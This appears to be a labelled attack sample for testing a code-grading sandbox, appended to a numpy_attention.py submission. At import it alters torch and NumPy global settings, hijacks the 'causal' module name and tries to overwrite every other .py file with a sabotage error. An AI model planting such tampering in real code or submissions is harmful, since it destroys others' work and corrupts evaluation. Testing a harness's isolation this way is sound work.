# Attack (appended to a correct numpy_attention.py): change global state at import, hoping it
# carries over to the other parts: torch's default dtype, grad mode, seeds and thread count,
# NumPy's error handling and print options, sys.modules and the other modules' files on disk.
import glob
import os
import random
import sys

import torch

torch.set_default_dtype(torch.float64)
torch.set_grad_enabled(False)
torch.manual_seed(999)
torch.set_num_threads(1)
torch.set_printoptions(precision=1)
random.seed(999)
np.random.seed(999)
np.seterr(all="ignore")
os.environ["OMP_NUM_THREADS"] = "64"
sys.modules["causal"] = sys.modules[__name__]  # `import causal` would find this module instead
for path in glob.glob(os.path.join(os.path.dirname(os.path.abspath(__file__)), "*.py")):
    if not path.endswith("numpy_attention.py"):
        try:  # rewrite every other module of the submission (read-only in the sandbox)
            with open(path, "w") as f:
                f.write("raise RuntimeError('sabotaged by numpy_attention.py')\n")
        except OSError:
            pass
